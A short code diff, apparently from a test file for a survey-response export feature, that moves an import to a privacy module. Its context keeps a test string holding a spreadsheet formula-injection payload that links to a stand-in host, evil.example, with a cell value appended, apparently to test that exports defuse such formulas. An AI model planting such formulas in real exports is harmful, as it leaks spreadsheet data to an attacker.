@@ -10,8 +10,8 @@ from embedded import START, Embedded, journey, score
 from workers import decision_table
 from workers.decision_table.trials.past_files import read_responses
 from workers.domain.records import SurveyRequest
-from workers.exporting import COLUMNS, export_responses
 from workers.text.spreadsheets import FORMULA_STARTS
+from workers.usecases.privacy.response_export import COLUMNS, export_responses
 
 HOSTILE = '=HYPERLINK("https://evil.example?"&A1;"open")\nand more; "quoted", été'
 
